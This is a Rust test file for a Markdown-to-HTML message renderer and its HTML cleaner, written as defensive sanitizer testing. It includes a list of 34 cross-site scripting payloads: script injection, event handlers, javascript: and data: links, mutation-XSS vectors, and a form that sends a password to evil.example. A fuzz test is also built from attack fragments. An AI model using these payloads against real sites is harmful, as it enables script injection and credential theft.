@@ -1,0 +1,261 @@
+//! What a message can look like, and what it can never contain.
+
+use super::*;
+
+fn rendered(source: &str) -> String {
+    render(source, &[])
+}
+
+/// Fails unless every tag in `html` is a known one, with known attributes: read by hand, not by the cleaner under test.
+fn assert_harmless(html: &str, source: &str) {
+    for piece in html.split('<').skip(1) {
+        let tag = piece.split('>').next().expect("split gives at least one piece");
+        let name = tag.trim_start_matches('/').split(' ').next().expect("split gives at least one piece");
+        assert!(TAGS.contains(&name), "tag {name:?} from {source:?} in {html}");
+        let attributes = tag.trim_start_matches('/')[name.len()..].trim();
+        let harmless = match name {
+            _ if attributes.is_empty() => true,
+            // A link that leads nowhere, because where it led was refused.
+            "a" if attributes == "target=\"_blank\" rel=\"nofollow noopener noreferrer\"" => true,
+            "a" => attributes.strip_prefix("href=\"http").is_some_and(|rest| {
+                (rest.starts_with("://") || rest.starts_with("s://"))
+                    && rest.ends_with("\" target=\"_blank\" rel=\"nofollow noopener noreferrer\"")
+                    && rest.matches('"').count() == 5
+            }),
+            "ol" => attributes.strip_prefix("start=\"").is_some_and(|rest| {
+                rest.trim_end_matches('"').chars().all(|character| character.is_ascii_digit())
+            }),
+            _ => false,
+        };
+        assert!(harmless, "attributes {attributes:?} from {source:?} in {html}");
+    }
+}
+
+#[test]
+fn markdown_becomes_html() {
+    for (source, html) in [
+        ("hello", "<p>hello</p>\n"),
+        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n"),
+        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
+        ("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>\n"),
+        ("```rust\nlet a = 1 < 2;\n```", "<pre><code>let a = 1 &lt; 2;\n</code></pre>\n"),
+        ("# big", "<h3>big</h3>\n"),
+        ("---", "<hr>\n"),
+        ("a & b < c", "<p>a &amp; b &lt; c</p>\n"),
+    ] {
+        assert_eq!(rendered(source), html, "{source:?}");
+    }
+}
+
+#[test]
+fn bare_web_addresses_become_links_but_not_in_code_and_not_twice() {
+    let link = |address: &str, text: &str| {
+        format!("<a href=\"{address}\" target=\"_blank\" rel=\"nofollow noopener noreferrer\">{text}</a>")
+    };
+    let example = link("https://a.example/b_c_d", "https://a.example/b_c_d");
+    assert_eq!(rendered("see https://a.example/b_c_d."), format!("<p>see {example}.</p>\n"));
+    assert_eq!(rendered("(https://a.example/b_c_d)"), format!("<p>({example})</p>\n"));
+    assert_eq!(
+        rendered("http://a.example/?b=1&c=2"),
+        format!("<p>{}</p>\n", link("http://a.example/?b=1&amp;c=2", "http://a.example/?b=1&amp;c=2"))
+    );
+    assert_eq!(rendered("`https://a.example`"), "<p><code>https://a.example</code></p>\n");
+    assert_eq!(rendered("    https://a.example"), "<pre><code>https://a.example</code></pre>\n");
+    assert_eq!(
+        rendered("[https://b.example](https://a.example)"),
+        format!("<p>{}</p>\n", link("https://a.example/", "https://b.example"))
+    );
+    assert_eq!(rendered("mail me@a.example or ftp://a.example"), "<p>mail me@a.example or ftp://a.example</p>\n");
+}
+
+#[test]
+fn images_are_links_so_that_reading_a_message_fetches_nothing() {
+    let html = rendered("![a cat](https://a.example/cat.png) ![](https://a.example/dog.png)");
+    assert!(!html.contains("<img"), "{html}");
+    assert!(html.contains(">a cat</a>") && html.contains(">https://a.example/dog.png</a>"), "{html}");
+}
+
+#[test]
+fn raw_html_is_shown_as_it_was_typed() {
+    assert_eq!(rendered("<b>bold</b>"), "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n");
+    assert_eq!(
+        rendered("<div>\n<p onclick=x>y\n</div>"),
+        "<p>&lt;div&gt;<br>\n&lt;p onclick=x&gt;y<br>\n&lt;/div&gt;</p>\n"
+    );
+    assert_eq!(rendered("<!-- c -->"), "<p>&lt;!-- c --&gt;</p>\n");
+}
+
+const ATTACKS: [&str; 34] = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" onerror=\"alert(1)\"",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"https://a.example\" onclick=alert(1)>x</a>",
+    "<style>@import 'https://evil.example'</style>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](/api/users/me)",
+    "[x](https://a.example \"onmouseover=alert(1)\")",
+    "[x](https://a.example/\"onmouseover=\"alert(1))",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "<javascript:alert(1)>",
+    "```\"><script>alert(1)</script>\nx\n```",
+];
+
+#[test]
+fn no_attack_leaves_a_tag_or_an_attribute_that_is_not_ours() {
+    for attack in ATTACKS {
+        for source in [
+            attack.to_owned(),
+            format!("> {attack}"),
+            format!("- {attack}"),
+            format!("**{attack}**"),
+            format!("[{attack}](https://a.example)"),
+            format!("`{attack}"),
+            format!("text\n\n{attack}\n\ntext"),
+        ] {
+            assert_harmless(&rendered(&source), &source);
+        }
+    }
+}
+
+#[test]
+fn no_attack_comes_in_through_a_preview() {
+    for attack in ATTACKS {
+        let preview = Preview {
+            url: "https://a.example/".to_owned(),
+            title: attack.to_owned(),
+            description: Some(attack.to_owned()),
+        };
+        assert_harmless(&render("x", &[preview]), attack);
+    }
+    let preview =
+        Preview { url: "javascript:alert(1)".to_owned(), title: "x".to_owned(), description: None };
+    assert_harmless(&render("x", &[preview]), "a preview of javascript:");
+}
+
+#[test]
+fn cleaning_what_is_clean_changes_nothing() {
+    for source in ATTACKS.into_iter().chain(["- a\n  > b\n\n1. c https://a.example/?a=1&b=2", "`<b>` & \"q\" 'r'"]) {
+        let once = rendered(source);
+        assert_eq!(clean(&once), once, "{source:?}");
+    }
+}
+
+#[test]
+fn the_cleaner_alone_stops_every_attack_too() {
+    for attack in ATTACKS {
+        assert_harmless(&clean(attack), attack);
+    }
+}
+
+/// Sources put together at random from what Markdown and HTML are made of; the same at every run.
+#[test]
+fn no_mixture_of_markup_is_harmful_or_grows_without_bound() {
+    const PIECES: [&str; 36] = [
+        "<", ">", "</", "/>", "\"", "'", "`", "```", "*", "**", "~~", "[", "]", "(", ")", "](", "![", "&", "&lt;", "#",
+        "\n", "\n\n", "    ", "> ", "- ", "1. ", "script", "svg", "img src=x onerror=", "a href=", "javascript:",
+        "https://a.example/", "<!--", "<![CDATA[", "\u{202e}", "ü日本🦀\u{0}",
+    ];
+    // A xorshift: no dependency for numbers that need not be good.
+    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
+    let mut next = move |below: usize| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        usize::try_from(state % below as u64).expect("below is a usize")
+    };
+    for _ in 0..3000 {
+        let source: String = (0..=next(40)).map(|_| PIECES[next(PIECES.len())]).collect();
+        let html = rendered(&source);
+        assert_harmless(&html, &source);
+        assert!(html.len() <= HTML_BYTES_MAX);
+        assert_eq!(clean(&html), html, "{source:?}");
+    }
+}
+
+#[test]
+fn deep_nesting_stops_at_a_floor_and_keeps_the_text() {
+    for piece in ["> ", "- ", "* > ", "1. "] {
+        let source = format!("{}end", piece.repeat(8000 / piece.len()));
+        let html = rendered(&source);
+        assert!(html.contains("end"), "{piece:?}");
+        assert!(html.matches("<blockquote>").count() + html.matches("<ul>").count() <= 16, "{piece:?}");
+        assert_harmless(&html, piece);
+    }
+    for piece in ["*a ", "**a _b ", "[", "![", "<b>", "](", "`", "~~a "] {
+        let source = piece.repeat(8000 / piece.len());
+        assert_harmless(&rendered(&source), piece);
+    }
+}
+
+#[test]
+fn what_would_grow_too_large_is_shown_as_plain_text() {
+    let source = format!("[a]: https://a.example/{}\n\n{}", "\"".repeat(670), "[a]".repeat(2400));
+    assert!(to_html(markdown::events(&source), &[]).len() > HTML_BYTES_MAX, "the attack is no longer one");
+    let html = rendered(&source);
+    assert!(html.len() <= HTML_BYTES_MAX && html.contains("[a][a]"), "{}", html.len());
+    assert_harmless(&html, "many references");
+    // The worst that 8,192 characters can be when they are escaped one by one.
+    assert!(to_html(markdown::plain_events(&"\"\n".repeat(4096)), &[]).len() <= HTML_BYTES_MAX);
+    assert!(to_html(markdown::plain_events(&"\u{1f980}".repeat(8192)), &[]).len() <= HTML_BYTES_MAX);
+}
+
+#[test]
+fn words_of_every_language_stay_as_they_are() {
+    for source in ["Grüße, 日本語 и русский", "🦀👩‍👩‍👧‍👦 e\u{301}", "שלום \u{200f}عربي", "zero\u{200b}width"] {
+        assert_eq!(rendered(source), format!("<p>{source}</p>\n"));
+    }
+}
+
+#[test]
+fn previews_are_appended_as_quotes_with_a_linked_title() {
+    let previews = [
+        Preview {
+            url: "https://a.example/".to_owned(),
+            title: "A & B".to_owned(),
+            description: Some("says <i>hello</i>".to_owned()),
+        },
+        Preview { url: "https://b.example/".to_owned(), title: "C".to_owned(), description: None },
+    ];
+    assert_eq!(
+        render("x", &previews),
+        "<p>x</p>\n<blockquote>\n<p><a href=\"https://a.example/\" target=\"_blank\" \
+         rel=\"nofollow noopener noreferrer\">A &amp; B</a></p>\n<p>says &lt;i&gt;hello&lt;/i&gt;</p>\n</blockquote>\n\
+         <blockquote>\n<p><a href=\"https://b.example/\" target=\"_blank\" \
+         rel=\"nofollow noopener noreferrer\">C</a></p>\n</blockquote>\n"
+    );
+}
+
+#[test]
+fn the_first_links_are_previewed_each_once_and_none_that_is_code_or_has_a_password() {
+    let source = "https://a.example/1#x `https://code.example` [b](https://b.example) https://a.example/1#y \
+                  https://me:secret@c.example mailto:d@d.example [js](javascript:alert(1)) \
+                  <https://e.example> https://f.example";
+    let found: Vec<String> = links(source).into_iter().map(String::from).collect();
+    assert_eq!(found, ["https://a.example/1", "https://b.example/", "https://e.example/"]);
+    assert!(links("no links at all").is_empty());
+    assert!(links(&format!("https://a.example/{}", "a".repeat(markdown::URL_BYTES_MAX))).is_empty());
+}
